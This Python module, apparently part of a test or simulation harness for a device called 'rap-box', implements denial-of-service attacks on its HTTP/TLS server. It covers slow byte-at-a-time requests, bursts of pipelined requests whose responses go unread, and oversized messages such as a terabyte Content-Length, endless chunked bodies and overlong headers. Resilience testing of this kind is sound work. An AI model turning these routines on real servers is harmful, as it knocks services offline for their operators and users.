"""Attacks by HTTP requests: sent a byte at a time, without reading responses, or of unlimited size."""

from __future__ import annotations

import asyncio
from collections.abc import Iterator
from itertools import chain, count, cycle, repeat
from typing import Final

from sim.hostile import Access
from sim.hostile.client import HostileConnection, connect, connection_pool
from wire.messages import READINGS_PER_REPORT_MAX, REPORTS_BODY_BYTES_MAX
from wire.tls.context import client_hello

POST: Final = b"POST /v1/reports HTTP/1.1\r\nHost: rap-box\r\n"
BURST_REQUESTS: Final = 8
"""A usual limit of pipelined requests that a server reads before it has answered the first."""
CHUNK: Final = 16 * 1024
ENDLESS_BYTES: Final = 4 << 20
"""Maximum number of bytes sent of an oversized message; far beyond every limit of the box."""


# -- a byte at a time


async def drip(access: Access, every_s: float, connections: int) -> None:
    """Send one byte every `every_s` seconds over each of up to `connections` connections (a slow-request attack).

    The connections send a TLS handshake, a request's header section, or a request's body, in turn.
    """
    hello = client_hello(access.tls)
    turns = count()
    with connection_pool() as pool:
        bytes_of: dict[HostileConnection, Iterator[bytes]] = {}
        while True:
            if len(pool) < connections:
                turn = next(turns) % 3
                if connection := await connect(access, secured=turn != 0):
                    pool.add(connection)
                    bytes_of[connection] = _singly((hello, _slow_head(), _slow_body())[turn])
                    connection.write((b"", b"", _slow_body_head())[turn])
            bytes_of = {connection: bytes_of[connection] for connection in pool}
            for connection, rest in bytes_of.items():
                connection.write(next(rest, b""))
            await asyncio.sleep(every_s)


def _singly(data: bytes) -> Iterator[bytes]:
    return (data[offset : offset + 1] for offset in range(len(data)))


def _slow_head() -> bytes:
    return POST + b"x: " + bytes(64).hex().encode() * 8 + b"\r\n\r\n"


def _slow_body_head() -> bytes:
    return POST + b"Content-Length: %d\r\n\r\n" % REPORTS_BODY_BYTES_MAX


def _slow_body() -> bytes:
    return bytes(REPORTS_BODY_BYTES_MAX)


# -- responses that are not read


async def ignore_answers(access: Access, every_s: float, connections: int) -> None:
    """Send a burst of requests every `every_s` seconds over up to `connections` connections, reading no response."""
    burst = b"GET /nothing HTTP/1.1\r\nHost: rap-box\r\n\r\n" * BURST_REQUESTS
    with connection_pool() as pool:
        while True:
            if len(pool) < connections and (connection := await connect(access)):
                connection.stop_reading()
                pool.add(connection)
            for connection in pool:
                connection.write(burst)
            await asyncio.sleep(every_s)


# -- too large


async def oversize(access: Access, every_s: float) -> None:
    """Send an oversized message every `every_s` seconds, cycling through the kinds in ENDLESS."""
    for secured, beginning, rest in cycle(ENDLESS):
        if connection := await connect(access, secured=secured):
            try:
                await _send_all(connection, chain([beginning], repeat(rest)))
            finally:
                connection.abort()
        await asyncio.sleep(every_s)


async def _send_all(connection: HostileConnection, parts: Iterator[bytes]) -> None:
    sent = 0
    while connection.is_open and sent < ENDLESS_BYTES:
        part = next(parts)
        sent += len(part)
        await connection.send(part)


def _too_many_readings() -> bytes:
    """Return a MessagePack body of the largest size allowed, whose reports have more readings than allowed."""
    readings = b"\xde" + (READINGS_PER_REPORT_MAX * 8).to_bytes(2, "big")
    readings += b"".join(b"\xa6r%05d\xcf" % n + bytes(8) for n in range(READINGS_PER_REPORT_MAX * 8))
    report = b"\x96\xa6status\x01\x00\xa4idle\x00" + readings
    reports = b"\x92\x01\xdc" + (REPORTS_BODY_BYTES_MAX // len(report)).to_bytes(2, "big")
    return reports + report * (REPORTS_BODY_BYTES_MAX // len(report))


def _post(body: bytes) -> bytes:
    return POST + b"Content-Length: %d\r\n\r\n" % len(body) + body


ENDLESS: Final = (
    (True, POST + b"Content-Length: 1099511627776\r\n\r\n", bytes(CHUNK)),
    (True, POST + b"Transfer-Encoding: chunked\r\n\r\n", b"4000\r\n" + bytes(0x4000) + b"\r\n"),
    (True, POST + b"x: ", b"x" * CHUNK),
    (True, POST, b"x: y\r\n" * (CHUNK // 6)),
    (True, b"GET /", b"x" * CHUNK),
    (True, b"", _post(_too_many_readings())),
    (True, b"", b"\r\n" * (CHUNK // 2)),
    (False, b"", b"\x16\x03\x01\x40\x00" + b"\x01\xff\xff\xff" + bytes(CHUNK - 4)),
)
"""(whether over TLS, the first bytes, the bytes repeated after them) of each kind: a body, chunks, one long header
field, many header fields, a long request target, reports with too many readings, empty lines, and a TLS handshake
message.
"""
